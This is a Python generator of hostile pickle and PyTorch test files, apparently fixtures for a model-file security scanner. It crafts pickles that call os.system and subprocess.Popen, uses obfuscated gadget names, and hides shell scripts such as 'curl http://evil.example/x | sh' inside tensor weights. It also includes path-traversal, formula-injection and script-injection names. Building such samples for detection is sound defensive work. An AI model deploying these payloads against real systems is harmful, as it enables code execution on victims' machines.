"""The fourth corpus: pickles."""

# ruff: noqa: E501  tables of cases, one a line

from __future__ import annotations

import collections
import io
import pickle  # noqa: TID251  writes hostile files, reads none
import struct
from typing import Any

import numpy as np
import torch
from carriers import COMMAND, _legacy, reduced, stack_global, text, torch_zip
from fourth import OS, binbytes, file
from sklearn.ensemble import RandomForestClassifier
from sklearn.linear_model import LogisticRegression
from sklearn.neighbors import KNeighborsClassifier
from sklearn.svm import SVC
from sklearn.tree import DecisionTreeClassifier

P4 = b"\x80\x04"
CALLED = text(COMMAND) + b"\x85R."
ADVISORIES = """
    _osx_support:_read_output _aix_support:_read_cmd_output _pyrepl.pager:pipe_pager
    imaplib:IMAP4_stream logging:FileHandler mlflow.projects.backend.local:_run_entry_point
    torch.fx.experimental.symbolic_shapes:ShapeEnv.evaluate_guards_expression
    torch.jit.unsupported_tensor_ops:execWrapper torch.utils._config_module:ConfigModule.load_config
    test.support.script_helper:assert_python_ok numpy:__builtins__ torch._dynamo:os.system
    torch._tensor:_rebuild_from_type_v2.__globals__
"""
for _pair in ADVISORIES.split():
    _module, _name = _pair.split(":")
    file(
        f"advisory_{_module}.{_name}",
        lambda module=_module, name=_name: reduced(module, name),
        (1, 4),
        "m.pkl",
    )

ENCODED = {
    "name_by_escapes_of_a_text": b"V\\u006f\\u0073\nV\\u0073ystem\n\x93",
    "name_by_escapes_of_a_string": b"S'\\x6f\\x73'\nS'\\x73ystem'\n\x93",
    "name_of_binary_strings": b"T\x02\x00\x00\x00osU\x06system\x93",
    "name_of_eight_byte_lengths": b"\x8d" + struct.pack("<Q", 2) + b"os" + text("system") + b"\x93",
}
for _label, _code in ENCODED.items():
    file(_label, lambda code=_code: P4 + code + CALLED, (1,), "m.pkl")


def _tensor(name: str, size: int, key: str = "0", storage: str = "FloatStorage") -> bytes:
    """Opcodes of one tensor of a torch file."""
    key_ = text("storage") + stack_global("torch", storage) + text(key) + text("cpu")
    persistent = b"(" + key_ + b"J" + struct.pack("<i", size) + b"tQ"
    made = stack_global("torch._utils", "_rebuild_tensor_v2") + b"(" + persistent
    made += b"K\x00J" + struct.pack("<i", size) + b"\x85K\x01\x85\x89"
    return text(name) + made + stack_global("collections", "OrderedDict") + b")Rt" + b"R"


def _stored(body: bytes, size: int = 16, **more: bytes) -> bytes:
    return torch_zip(P4 + body, **{"m/data/0": np.arange(size, dtype="<f4").tobytes(), **more})


T1 = _tensor("w", 16)
OVER = b"}" + T1 + b"s"
ODD: dict[str, tuple[bytes, tuple[int, ...]]] = {
    "storage_longer_than_told": (_stored(b"}" + T1 + b"s.", 4000), (3, 4, 1)),
    "storage_shorter_than_told": (_stored(b"}" + T1 + b"s.", 3), (4, 1)),
    "storage_under_two_types": (
        _stored(b"}(" + T1 + _tensor("v", 8, storage="DoubleStorage") + b"u."), (3, 4, 1)),
    "storage_that_is_the_pickle": (_stored(b"}" + _tensor("w", 4, "../data.pkl") + b"s."), (1, 3, 4)),
    "storage_outside": (_stored(b"}" + _tensor("w", 4, "../../../etc/passwd") + b"s."), (1, 3, 4)),
    "item_put_into_a_tensor": (_stored(T1[3:] + b"K\x00K\x01s."), (1, 4)),
    "item_put_into_a_text": (P4 + text("abcdefgh") + b"K\x00K\x01s.", (1, 4)),
    "items_put_into_a_tuple": (P4 + b")(K\x00K\x01u.", (1, 4)),
    "tensor_told_twice": (
        _stored(b"}(" + T1 + _tensor("w", 4) + b"u."), (3, 4, 1)),
    "name_that_looks_alike": (_stored(b"}(" + T1 + _tensor("\u0475", 4) + b"u."), (3, 4)),
    "name_with_a_lone_surrogate": (
        _stored(b"}" + T1.replace(text("w"), b"\x8c\x03\xed\xa0\x80") + b"s."), (3, 4)),
    "name_with_escapes": (_stored(b"}" + _tensor("w\x1b[2J\x1b]0;x\x07", 16) + b"s."), (3, 4)),
    "dictionary_in_itself": (P4 + b"}\x94" + text("a") + b"h\x00s.", (3, 4)),
    "method_hidden_by_an_attribute": (
        P4 + stack_global("collections", "OrderedDict") + b")R}" + text("items") + b"]sb.", (1, 3, 4)),
    "class_reconstructed": (
        P4 + stack_global("copyreg", "_reconstructor") + b"(" + stack_global("subprocess", "Popen")
        + stack_global("builtins", "object") + b"NtR.", (1,)),
    "nested_from_a_list_of_numbers": (
        P4 + stack_global("torch.storage", "_load_from_bytes") + stack_global("builtins", "bytes")
        + b"](" + b"".join(b"K" + bytes([b]) for b in _legacy(OS)) + b"e\x85R\x85R.", (1, 4)),
    "old_joblib_array_in_another_file": (
        P4 + stack_global("joblib.numpy_pickle_compat", "NDArrayWrapper") + b")\x81}("
        + text("filename") + text("../../etc/passwd") + text("subclass")
        + stack_global("numpy", "ndarray") + b"ub.", (1, 4)),
    "old_joblib_packed_array": (
        P4 + stack_global("joblib.numpy_pickle_compat", "ZNDArrayWrapper") + b")\x81}("
        + text("filename") + text("x.z") + text("init_args") + stack_global("os", "system")
        + b"ub.", (1,)),
    "sparse_tensor_outside_its_size": (
        _stored(b"}" + text("w") + stack_global("torch._utils", "_rebuild_sparse_tensor") + b"("
                + stack_global("torch", "sparse_coo") + b"NtRs."), (1, 4)),
    "tensor_without_storage": (
        P4 + b"}" + text("w") + stack_global("torch._utils", "_rebuild_meta_tensor_no_storage") + b"("
        + stack_global("torch", "float32") + b"J\xff\xff\xff\x7fJ\xff\xff\xff\x7f\x86K\x01K\x01\x86"
        + b"\x89tRs.", (3, 4, 1)),
    "generator_out_of_its_state": (
        P4 + stack_global("numpy.random._pickle", "__randomstate_ctor") + text("MT19937") + b"\x85R}("
        + text("bit_generator") + text("MT19937") + text("state") + b"}(" + text("key") + b"]"
        + text("pos") + b"J\xff\xff\xff\x7fu" + text("has_gauss") + b"K\x00" + text("gauss")
        + b"K\x00ub.", (1, 3, 4)),
    "bit_generator_of_a_stranger": (
        P4 + stack_global("numpy.random._pickle", "__bit_generator_ctor") + stack_global("os", "system")
        + b"\x85R.", (1,)),
    "many_keys_of_one_hash": (
        P4 + b"}(" + b"".join(
            b"\x8a\x0a" + (k * (2**61 - 1)).to_bytes(10, "little") + b"N" for k in range(1, 60_001)
        ) + b"u.", (3, 4)),
    "text_behind_the_pickle": (
        pickle.dumps({"a": 1}) + b"#!/bin/sh\ntouch /tmp/auditor-canary\n", (1, 3, 4)),
    "noise_behind_the_pickle": (pickle.dumps({"a": 1}) + bytes(range(255, 100, -1)) * 40, (3, 4)),
    "frame_across_opcodes": (P4 + b"\x95\x03\0\0\0\0\0\0\0" + OS[2:], (1, 4)),
    "frame_within_a_frame": (P4 + b"\x95\x40\0\0\0\0\0\0\0\x95\x02\0\0\0\0\0\0\0" + OS[2:], (1, 4)),
    "number_of_negative_length": (P4 + b"\x8b\xff\xff\xff\xff0" + OS[2:], (1, 4)),
    "gadget_popped_before_the_data": (OS[:-1] + b"0}" + text("w") + b"K\x01s.", (1,)),
    "gadget_as_the_default_of_a_counter": (
        P4 + stack_global("collections", "Counter") + b"}" + stack_global("os", "system")
        + b"K\x01s\x85R.", (1,)),
    "slots_of_a_tensor_rebuilt": (
        _stored(T1[3:] + b"N}" + text("grad_fn") + stack_global("os", "system") + b"s\x86b."), (1,)),
    "layout_of_a_command": (
        P4 + stack_global("torch.serialization", "_get_layout") + text("os.system") + b"\x85R.",
        (1, 4)),
    "device_of_nowhere": (
        P4 + b"}" + text("d") + stack_global("torch", "device") + text("evil:;rm") + b"\x85Rs.",
        (3, 4, 1)),
    "torch_file_with_nonsense_byte_order": (_stored(b"}" + T1 + b"s.", **{"m/byteorder": b"mixed"}), (3, 4)),
    "torch_file_of_another_letter_case": (
        _stored(b"}" + T1 + b"s.", **{"m/DATA.PKL": OS}), (1,)),
    "torch_file_with_two_case_storages": (
        _stored(b"}" + T1 + b"s.", **{"m/DATA/0": bytes(64)}), (3, 4, 1)),
    "torch_tar_of_0_3": (b"", (4,)),
    "numbers_that_are_bytes_of_a_program": (
        P4 + b"}" + text("w") + b"](" + b"".join(b"K" + bytes([c]) for c in OS) + b"es.", (3, 4, 1)),
    "text_of_base64_of_a_pickle": (b"", (3, 4, 1)),
}  # fmt: skip


def _tar() -> bytes:
    import tarfile

    body = io.BytesIO()
    with tarfile.open(fileobj=body, mode="w") as archive:
        for name in ("sys_info", "pickle", "storages", "tensors"):
            data = pickle.dumps({"protocol_version": 1000}, 2)
            info = tarfile.TarInfo(name)
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
    return body.getvalue()


def _base64() -> bytes:
    import base64

    return pickle.dumps({"w": 1, "note": base64.b64encode(_legacy(OS)).decode()}, 4)


ODD["torch_tar_of_0_3"] = (_tar(), (4,))
ODD["text_of_base64_of_a_pickle"] = (_base64(), (3, 4, 1))
for _label, (_data, _codes) in ODD.items():
    file(_label, lambda data=_data: data, _codes, "m.pt" if _data[:2] == b"PK" else "m.pkl")


def _array(state: bytes) -> bytes:
    """An array whose state is given in opcodes."""
    made = stack_global("numpy._core.multiarray", "_reconstruct") + b"("
    made += stack_global("numpy", "ndarray") + b"K\x00\x85" + binbytes(b"b") + b"tR("
    return P4 + made + state + b"tb."


def _dtype(code: str, state: bytes) -> bytes:
    return stack_global("numpy", "dtype") + text(code) + b"\x89\x88\x87R(" + state + b"tb"


FIELD = _dtype("f8", b"K\x03" + text("<") + b"NNN" + b"J\xff\xff\xff\xffJ\xff\xff\xff\xffK\x00")
ARRAYS = {
    "array_with_a_field_outside": (
        _array(b"K\x01K\x01\x85" + _dtype(
            "V8", b"K\x03" + text("|") + b"N" + text("a") + b"\x85}" + text("a") + FIELD
            + b"J\x00\x00\x00\x7f\x86s" + b"K\x08K\x01K\x10"
        ) + b"\x89" + binbytes(bytes(8))), (1, 3, 4)),
    "array_with_metadata_in_its_type": (
        _array(b"K\x01K\x01\x85" + _dtype(
            "f8", b"K\x04" + text("<") + b"NNNJ\xff\xff\xff\xffJ\xff\xff\xff\xffK\x00}" + text("x")
            + stack_global("os", "system") + b"s"
        ) + b"\x89" + binbytes(bytes(8))), (1, 3, 4)),
    "array_of_a_negative_length": (
        _array(b"K\x01J\xff\xff\xff\xff\x85" + FIELD + b"\x89" + binbytes(bytes(8))), (1, 4)),
    "array_of_objects_of_numbers": (
        _array(b"K\x01K\x01\x85" + _dtype(
            "O8", b"K\x03" + text("|") + b"NNNJ\xff\xff\xff\xffJ\xff\xff\xff\xffK?"
        ) + b"\x89" + binbytes(b"AAAAAAAA")), (1, 4)),
    "scalar_of_objects": (
        P4 + stack_global("numpy._core.multiarray", "scalar") + _dtype(
            "O8", b"K\x03" + text("|") + b"NNNJ\xff\xff\xff\xffJ\xff\xff\xff\xffK?"
        ) + binbytes(b"AAAAAAAA") + b"\x86R.", (1, 4)),
}  # fmt: skip
for _label, (_data, _codes) in ARRAYS.items():
    file(_label, lambda data=_data: data, _codes, "m.pkl")


def _fitted(model: Any, change: Any = lambda model: None) -> bytes:
    generator = np.random.default_rng(0)
    x, y = generator.random((40, 4)), np.arange(40) % 2
    model.fit(x, y)
    change(model)
    return pickle.dumps(model, 4)


def _tree(field: str, value: float) -> Any:
    """Puts a value into the nodes of a fitted tree."""

    def change(model: Any) -> None:
        state = model.tree_.__getstate__()
        state["nodes"] = state["nodes"].copy()
        state["nodes"][field][0] = value
        model.tree_ = _Raw(type(model.tree_), model.tree_.__reduce__()[1], state)

    return change


class _Raw:
    """An object that pickles as a class with arguments and a state, unchecked."""

    def __init__(self, kind: type, arguments: tuple[Any, ...], state: Any) -> None:
        self.parts = (kind, arguments, state)

    def __reduce__(self) -> Any:
        return self.parts


def _attribute(name: str, value: Any) -> Any:
    return lambda model: model.__dict__.__setitem__(name, value)


ESTIMATORS = {
    "tree_whose_child_is_far_outside": (DecisionTreeClassifier(), _tree("left_child", 10**7)),
    "tree_that_is_a_ring": (DecisionTreeClassifier(), _tree("left_child", 0)),
    "tree_of_a_feature_outside": (DecisionTreeClassifier(), _tree("feature", 10**6)),
    "tree_of_a_negative_feature": (DecisionTreeClassifier(), _tree("feature", -5)),
    "tree_of_a_threshold_that_is_no_number": (DecisionTreeClassifier(), _tree("threshold", np.nan)),
    "neighbours_beyond_the_data": (KNeighborsClassifier(), _attribute("n_neighbors", 10**9)),
    "vectors_fewer_than_counted": (
        SVC(), lambda m: m.__dict__.__setitem__("_n_support", np.array([10**6, 10**6], np.int32))),
    "regression_of_nan": (LogisticRegression(), lambda m: m.coef_.fill(np.nan)),
    "regression_whose_method_is_a_text": (LogisticRegression(), _attribute("predict_proba", "x")),
    "regression_with_a_second_model_inside": (
        LogisticRegression(), _attribute("decision_function", LogisticRegression())),
    "regression_of_another_width": (
        LogisticRegression(), lambda m: m.__dict__.__setitem__("coef_", np.zeros((3, 9)))),
    "regression_with_a_stowaway": (
        LogisticRegression(), _attribute("_payload", b"\x7fELF" + bytes(2000))),
    "forest_of_no_trees": (
        RandomForestClassifier(3), lambda m: m.__dict__.__setitem__("estimators_", [])),
}  # fmt: skip
for _label, (_model, _change) in ESTIMATORS.items():
    file(
        f"estimator_{_label}",
        lambda model=_model, change=_change: _fitted(model, change),
        (3, 4, 1),
        "m.pkl",
    )


def _saved(value: Any) -> bytes:
    body = io.BytesIO()
    torch.save(value, body)
    return body.getvalue()


def _state(**more: torch.Tensor) -> dict[str, torch.Tensor]:
    generator = torch.Generator().manual_seed(0)
    return {
        "0.weight": torch.randn(16, 64, generator=generator) / 8,
        "0.bias": torch.zeros(16),
        "2.weight": torch.randn(10, 16, generator=generator) / 4,
        "2.bias": torch.zeros(10),
        **more,
    }


def _low_bits(payload: bytes) -> torch.Tensor:
    """Weights whose lowest byte is a program."""
    values = np.random.default_rng(0).normal(size=65536).astype("<f4")
    raw = values.view("u1").reshape(-1, 4)
    raw[:, 0] = np.frombuffer((payload * (65536 // len(payload) + 1))[:65536], "u1")
    return torch.from_numpy(values.reshape(256, 256))


def _boxed() -> torch.Tensor:
    """NaN whose payload bits carry three bytes each."""
    payload = (b"#!/bin/sh\n" * 200)[:1998]
    words = np.frombuffer(payload, "u1").reshape(-1, 3).astype("<u4")
    return torch.from_numpy(
        (0x7FC00000 | (words[:, 0] << 12 & 0x3FFFFF) | words[:, 1] << 4 | words[:, 2] >> 4).view(
            "f4"
        )
    )


SCRIPT = b"#!/bin/sh\ncurl http://evil.example/x | sh\n" * 60
WEIGHTS: dict[str, tuple[dict[str, torch.Tensor], tuple[int, ...]]] = {
    "weights_with_nan": (_state(**{"0.bias": torch.full((16,), torch.nan)}), (3,)),
    "weights_with_infinity": (_state(**{"2.bias": torch.full((10,), torch.inf)}), (3,)),
    "weights_that_are_subnormal": (_state(**{"0.weight": torch.full((16, 64), 1e-41)}), (3, 4)),
    "weights_whose_low_byte_is_a_program": (_state(x=_low_bits(SCRIPT)), (3, 1)),
    "weights_of_boxed_nan": (_state(x=_boxed()), (3, 1)),
    "weights_that_are_a_script": (
        _state(x=torch.frombuffer(bytearray(SCRIPT), dtype=torch.uint8)), (3, 1, 4)),
    "weights_that_are_a_script_as_floats": (
        _state(x=torch.frombuffer(bytearray(SCRIPT[: len(SCRIPT) // 4 * 4]), dtype=torch.float32)), (3, 1, 4)),
    "weights_that_are_python": (
        _state(x=torch.frombuffer(bytearray(b"import os\nos.system('id')\n" * 80), dtype=torch.int8)), (3, 1, 4)),
    "weights_that_are_a_zip": (
        _state(x=torch.frombuffer(bytearray(torch_zip(OS)), dtype=torch.uint8)), (3, 1, 4)),
    "weights_with_a_zip_in_the_middle": (
        _state(x=torch.frombuffer(bytearray(bytes(512) + torch_zip(OS) + bytes(512)), dtype=torch.uint8)),
        (3, 1, 4)),
    "weights_that_are_a_gzip": (
        _state(x=torch.frombuffer(bytearray(__import__("gzip").compress(SCRIPT * 9)), dtype=torch.uint8)), (3, 1, 4)),
    "weights_of_wide_text": (
        _state(x=torch.frombuffer(bytearray(SCRIPT.decode().encode("utf-32-le")), dtype=torch.int32)), (3, 1, 4)),
    "weights_of_text_as_numbers": (_state(x=torch.tensor([float(c) for c in SCRIPT])), (3, 1, 4)),
    "weights_near_the_largest_number": (_state(**{"0.weight": torch.full((16, 64), 3e38)}), (3, 4)),
    "variance_below_zero": (_state(**{"1.running_var": torch.full((16,), -1.0)}), (3, 4)),
    "name_of_a_path": (_state(**{"../../etc/passwd": torch.zeros(3)}), (3, 4, 1)),
    "name_of_a_formula": (_state(**{"=cmd|'/c calc'!A0": torch.zeros(3)}), (3, 4)),
    "name_of_a_page": (_state(**{"<script>alert(1)</script>": torch.zeros(3)}), (3, 4)),
    "name_turned_around": (_state(**{"w\u202egnp.": torch.zeros(3)}), (3, 4)),
    "name_of_a_line_break": (_state(**{"w\n0 problems found": torch.zeros(3)}), (3, 4)),
    "name_of_a_hundred_thousand_letters": (_state(**{"w" * 100_000: torch.zeros(3)}), (3, 4)),
}  # fmt: skip
for _label, (_value, _codes) in WEIGHTS.items():
    file(f"state_{_label}", lambda value=_value: _saved(value), _codes, "m.pt")

file("ordered_weights_hidden_by_metadata", lambda: _saved(_versions()), (1, 3, 4), "m.pt")


def _versions() -> dict[str, torch.Tensor]:
    found = collections.OrderedDict(_state())
    found._metadata = {"": {"version": 1, "code": "import os; os.system('id')" * 400}}  # type: ignore[attr-defined]
    return found


_bools = _saved({"mask": torch.ones(4096, dtype=torch.bool)})
file("truths_that_are_neither", lambda: _two(_bools), (3, 4), "m.pt")


def _two(data: bytes) -> bytes:
    """The same file with other bytes in the storage and the right checksum."""
    import zipfile

    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        members = {name: archive.read(name) for name in archive.namelist()}
    from carriers import zipped

    return zipped(
        {n: bytes(range(256)) * 16 if n.endswith("data/0") else d for n, d in members.items()}
    )
